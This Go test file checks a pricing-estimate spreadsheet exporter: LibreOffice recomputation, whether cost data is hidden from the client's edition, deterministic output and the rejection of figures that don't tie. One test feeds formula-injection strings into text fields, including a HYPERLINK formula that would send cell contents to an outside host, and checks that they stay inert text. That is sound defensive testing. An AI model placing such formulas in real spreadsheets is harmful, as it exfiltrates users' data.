package paper

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"bareframe/internal/money"
	"bareframe/internal/pricing"
	"bareframe/internal/testkit/spreadsheet"
)

var kept = regexp.MustCompile(`</f><v>[^<]*</v>`)

// forgetful is a workbook whose formulas keep a wrong value, so that a right one
// must have been worked out.
func forgetful(t *testing.T, file []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	changed := 0
	for name, content := range parts(t, file) {
		changed += len(kept.FindAllString(content, -1))
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, kept.ReplaceAllString(content, `</f><v>424242</v>`))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil || changed < 100 {
		t.Fatalf("%v; %d values of formulas were found", err, changed)
	}
	return out.Bytes()
}

// LibreOffice works every formula out anew, from wrong values, and comes to
// what pricing says: each line's net, tax and cost, subtotals, tax by rate,
// totals, deposit and draws, on a dozen estimates.
func TestLibreOfficeReckonsWhatPricingDoes(t *testing.T) {
	spreadsheet.Need(t)
	type estimate struct {
		data WorkbookData
		ours []byte
	}
	estimates, files := map[string]estimate{}, map[string][]byte{}
	seed := uint64(0)
	for _, basis := range []pricing.TaxBasis{pricing.PerDocument, pricing.PerLine} {
		for currency, places := range map[string]int{"USD": 2, "JPY": 0, "KWD": 3} {
			for range 2 {
				seed++
				in, r := priced(t, seed, currency, places, basis)
				for name, edition := range map[string]Edition{"owner": OwnersEdition, "client": ClientsEdition} {
					if edition == ClientsEdition && seed%3 > 0 {
						continue // its formulas are the owner's
					}
					d := workbookOf(in, r)
					ours := workbook(t, d, edition)
					name = fmt.Sprintf("%s-%s-%s-%d.xlsx", name, currency, basis, seed)
					estimates[name], files[name] = estimate{d, ours}, forgetful(t, ours)
				}
			}
		}
	}
	formulas := 0
	for name, reckoned := range spreadsheet.Convert(t, files, "", spreadsheet.ToXLSX, ".xlsx") {
		e := estimates[name]
		theirs := opened(t, reckoned)
		formulas += compareFormulas(t, name, opened(t, e.ours), theirs)
		comparePrices(t, name, e.data, theirs)
	}
	t.Logf("%d workbooks, %d formulas worked out", len(files), formulas)
}

// compareFormulas wants every cell with a formula to have the value that we
// kept beside it, and returns how many there are.
func compareFormulas(t *testing.T, name string, ours, theirs *excelize.File) int {
	t.Helper()
	n, raw := 0, excelize.Options{RawCellValue: true}
	for _, sheet := range ours.GetSheetList() {
		rows, err := ours.GetRows(sheet, raw)
		if err != nil {
			t.Fatal(err)
		}
		for i := range rows {
			for j := range 26 {
				at := letters(j) + strconv.Itoa(i+1)
				formula, _ := ours.GetCellFormula(sheet, at)
				if formula == "" {
					continue
				}
				n++
				want, _ := ours.GetCellValue(sheet, at, raw)
				got, _ := theirs.GetCellValue(sheet, at, raw)
				if !sameFigure(got, want) {
					t.Errorf("%s, %s!%s: LibreOffice has %q, we keep %q\n%s", name, sheet, at, got, want, formula)
				}
			}
		}
	}
	return n
}

// sameFigure compares to 12 digits; amounts are compared exactly elsewhere.
func sameFigure(got, want string) bool {
	g, err := strconv.ParseFloat(got, 64)
	w, err2 := strconv.ParseFloat(want, 64)
	if err != nil || err2 != nil {
		return got == want
	}
	return g == w || strconv.FormatFloat(g, 'e', 11, 64) == strconv.FormatFloat(w, 'e', 11, 64)
}

// amountsBelow are the amounts of a column of a sheet below a title, by row.
func amountsBelow(t *testing.T, f *excelize.File, sheet, title string, c money.Currency) []money.Amount {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	column := -1
	var out []money.Amount
	for _, row := range rows {
		if column < 0 {
			for j, text := range row {
				if text == title {
					column = j
				}
			}
			continue
		}
		if column >= len(row) || row[column] == "" {
			out = append(out, money.Zero(c))
			continue
		}
		number, err := strconv.ParseFloat(row[column], 64)
		if err != nil {
			continue
		}
		a, err := money.Parse(strconv.FormatFloat(number, 'f', -1, 64), c)
		if err != nil {
			t.Fatalf("%s, %s: %s is no amount in %s: %v", sheet, title, row[column], c, err)
		}
		out = append(out, a)
	}
	if column < 0 {
		t.Fatalf("%s has no column %q", sheet, title)
	}
	return out
}

// comparePrices wants the amounts of pricing in LibreOffice's workbook, to the
// minor unit.
func comparePrices(t *testing.T, name string, d WorkbookData, f *excelize.File) {
	t.Helper()
	c, err := money.ParseCurrency(d.Currency)
	if err != nil {
		t.Fatal(err)
	}
	same := func(what string, got, want money.Amount) {
		t.Helper()
		if !got.Equal(want) {
			t.Errorf("%s: %s is %s in LibreOffice, %s by pricing", name, what, got, want)
		}
	}
	nets, taxes := amountsBelow(t, f, "Lines", "Net", c), []money.Amount(nil)
	if d.TaxPerLine {
		taxes = amountsBelow(t, f, "Lines", "Tax", c)
	}
	for i, l := range d.Lines {
		same(fmt.Sprint("net of line ", i+1), nets[i], l.Net)
		if l.Tax != nil {
			same(fmt.Sprint("tax of line ", i+1), taxes[i], *l.Tax)
		}
	}
	tax, drawn := money.Zero(c), money.Zero(c)
	for _, a := range amountsBelow(t, f, "Tax", "Tax of the rate", c) {
		tax, _ = tax.Add(a)
	}
	same("all tax", tax, d.TaxTotal)
	totals := amountsBelow(t, f, "Estimate", "Net", c)[len(d.Phases)+1:]
	for i, want := range []money.Amount{d.LineTotal, d.TaxTotal, d.Total, d.Prepaid, d.Due} {
		same([]string{"total of lines", "tax", "total", "paid", "due"}[i], totals[i], want)
	}
	draws := amountsBelow(t, f, "Payments", "Amount", c)
	for i, draw := range d.Draws {
		same("draw "+draw.Name, draws[i], draw.Amount)
		drawn, _ = drawn.Add(draws[i])
	}
	deposit, _ := f.GetCellValue("Payments", "B5", excelize.Options{RawCellValue: true})
	if got, err := money.Parse(deposit, c); err != nil || d.Deposit == nil {
		t.Errorf("%s: deposit %q: %v", name, deposit, err)
	} else {
		same("deposit", got, d.Deposit.Amount)
	}
}

// What is owner's own is nowhere in the client's edition, in no part of it.
func TestTheClientsEditionHoldsNoCost(t *testing.T) {
	in := pricing.Example()
	in.Adjustments = nil
	in.Lines[0].UnitCost, in.Lines[8].UnitCost, in.Lines[8].MarkupPercent, in.Lines[2].WastePercent = "41.7193", "1187.31", "13.57", "11.37"
	r, err := pricing.Calculate(in)
	if err != nil {
		t.Fatal(err)
	}
	own := append([]string{"41.7193", "1187.31", "13.57", "11.37", "Markup", "Margin", "Waste", "Unit cost", "Cost"}, r.Lines[0].Cost.String(), r.Margin.Amount.String(), r.Margin.Cost.String())
	told := map[Edition]string{}
	for _, e := range []Edition{OwnersEdition, ClientsEdition} {
		for name, content := range parts(t, workbook(t, workbookOf(in, r), e)) {
			if strings.HasPrefix(name, "xl/worksheets/") {
				told[e] += content
			}
		}
	}
	for _, secret := range own {
		if strings.Contains(told[ClientsEdition], secret) {
			t.Errorf("the client's edition holds %q", secret)
		}
		if !strings.Contains(told[OwnersEdition], secret) {
			t.Errorf("the owner's edition does not hold %q, so that its absence says nothing", secret)
		}
	}
}

// Text stays text, whatever it begins with.
func TestTextsBecomeNoFormulas(t *testing.T) {
	in := pricing.Example()
	in.Adjustments = nil
	evil := `=HYPERLINK("http://example.org/?"&A1,"x")`
	in.Lines[0].Description, in.Phases[0].Name, in.Draws[0].Name = evil, evil, "+1+1"
	r, err := pricing.Calculate(in)
	if err != nil {
		t.Fatal(err)
	}
	d := workbookOf(in, r)
	d.Heading, d.Particulars = "@SUM(A1)", []string{evil, "-1\x00\x0b", "\xff"}
	d.Lines[0].Unit, d.Lines[0].Kind = "=1", "=2"
	f := opened(t, workbook(t, d, OwnersEdition))
	seen := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, value := range row {
				at := letters(j) + strconv.Itoa(i+1)
				formula, _ := f.GetCellFormula(sheet, at)
				if value == evil || value == "@SUM(A1)" || value == "+1+1" {
					seen++
				}
				if strings.Contains(formula, "HYPERLINK") || formula != "" && !strings.ContainsAny(formula, "(!-+") {
					t.Errorf("%s!%s has the formula %q", sheet, at, formula)
				}
			}
		}
	}
	if seen < 5 {
		t.Errorf("only %d of the texts are in the workbook", seen)
	}
}

func TestTheSameEstimateGivesTheSameWorkbook(t *testing.T) {
	in, r := priced(t, 99, "USD", 2, pricing.PerLine)
	first := workbook(t, workbookOf(in, r), OwnersEdition)
	for range 20 {
		if !bytes.Equal(first, workbook(t, workbookOf(in, r), OwnersEdition)) {
			t.Fatal("the workbook differs from one writing to the next")
		}
	}
}

// Figures that do not tie are refused, so that no formula stands beside another amount.
func TestFiguresThatDoNotTieAreRefused(t *testing.T) {
	in, r := priced(t, 5, "USD", 2, pricing.PerDocument)
	cent := money.FromMinor(1, r.Currency)
	for name, change := range map[string]func(*WorkbookData){
		"a line":                    func(d *WorkbookData) { d.Lines[0].Net, _ = d.Lines[0].Net.Add(cent) },
		"the tax":                   func(d *WorkbookData) { d.TaxTotal, _ = d.TaxTotal.Add(cent) },
		"the total":                 func(d *WorkbookData) { d.Total, _ = d.Total.Add(cent) },
		"what is due":               func(d *WorkbookData) { d.Due, _ = d.Due.Add(cent) },
		"a draw":                    func(d *WorkbookData) { d.Draws[0].Amount, _ = d.Draws[0].Amount.Add(cent) },
		"a base":                    func(d *WorkbookData) { d.Taxes[0].Base, _ = d.Taxes[0].Base.Add(cent) },
		"a rate left out":           func(d *WorkbookData) { d.Taxes = d.Taxes[1:] },
		"a class with a signature":  func(d *WorkbookData) { d.Classes[0].Name = `x",1)` },
		"a phase that is not there": func(d *WorkbookData) { d.Lines[0].Phase = 9 },
	} {
		d := workbookOf(in, r)
		change(&d)
		if _, err := Workbook(d, OwnersEdition); err == nil || !strings.Contains(err.Error(), "workbook-figures") {
			t.Errorf("%s: got %v, want workbook-figures", name, err)
		}
	}
}

// Where a spreadsheet's digits do not suffice an amount is a value, and the
// sheet says so; everything that follows from it stays live.
func TestWhatASpreadsheetCannotRoundIsAValue(t *testing.T) {
	in := pricing.Input{Currency: "USD", TaxBasis: pricing.PerDocument, TaxRates: []pricing.TaxRate{{Class: pricing.Part, Percent: "7.25"}},
		Phases: []pricing.Phase{{ID: "a", Name: "A"}, {ID: "b", Name: "B"}}, Draws: []pricing.Draw{{ID: "1", Name: "One", PhaseID: "a"}, {ID: "2", Name: "Two", PhaseID: "b"}}}
	line := func(id, phase, quantity, price string) {
		in.Lines = append(in.Lines, pricing.Line{ID: id, PhaseID: phase, Kind: pricing.Fee, Description: id, Quantity: quantity, UnitPrice: price, TaxClass: pricing.Part})
	}
	line("half a cent", "a", "0.5", "0.01")                                           // 0.005 is half a cent: 0.01
	line("a hundred millionth of a cent short of half", "a", "0.000001", "4999.9999") // 0.0049999999: 0.00
	line("four million", "a", "1", "4000000.01")
	for i := range 20 {
		line(fmt.Sprint("three million ", i), "b", "1", "3000000")
	}
	r, err := pricing.Calculate(in)
	if err != nil {
		t.Fatal(err)
	}
	f := opened(t, workbook(t, workbookOf(in, r), ClientsEdition))
	for i, c := range []struct {
		net     string
		formula bool
	}{{"0.01", true}, {"0", false}, {"4000000.01", false}, {"3000000", true}} {
		row := strconv.Itoa(firstLine + i)
		net, _ := f.GetCellValue("Lines", "K"+row, excelize.Options{RawCellValue: true})
		formula, _ := f.GetCellFormula("Lines", "K"+row)
		remark, _ := f.GetCellValue("Lines", "N"+row)
		if net != c.net || (formula != "") != c.formula || (remark == "") != c.formula {
			t.Errorf("line %d: net %q with formula %q and note %q, want %q and a formula or a note", i+1, net, formula, remark, c.net)
		}
	}
	draws, err := f.GetRows("Payments")
	if err != nil || !strings.Contains(fmt.Sprint(draws), "The draws are values and no formulas") {
		t.Errorf("no note on draws of 64 million: %v %v", draws, err)
	}
}

// A line that carries part of a reserve has no unit price for the client; its
// net is a stated sum.
func TestAStatedSumHasItsNote(t *testing.T) {
	usd := func(text string) money.Amount {
		c, _ := money.ParseCurrency("USD")
		a, err := money.Parse(text, c)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	d := WorkbookData{Heading: "Estimate", Currency: "USD", Classes: []WorkbookClass{{Name: "part", Percent: "10"}},
		Lines: []WorkbookLine{{Description: "carries", Quantity: "3", TaxClass: "part", Net: usd("120.05")}},
		Taxes: []WorkbookTax{{Percent: "10", Base: usd("120.05"), Tax: usd("12.01")}}, LineTotal: usd("120.05"), TaxTotal: usd("12.01"), Total: usd("132.06"), Due: usd("132.06")}
	f := opened(t, workbook(t, d, ClientsEdition))
	rows, err := f.GetRows("Lines", excelize.Options{RawCellValue: true})
	if err != nil || !strings.Contains(fmt.Sprint(rows), "120.05") || !strings.Contains(fmt.Sprint(rows), statedSum) {
		t.Errorf("%v %v: want the sum with its note", rows, err)
	}
	if formula, _ := f.GetCellFormula("Tax", "F4"); !strings.HasPrefix(formula, "IF(D4=A4,ROUND(") {
		t.Errorf("the tax on it has the formula %q, want a live one", formula)
	}
}
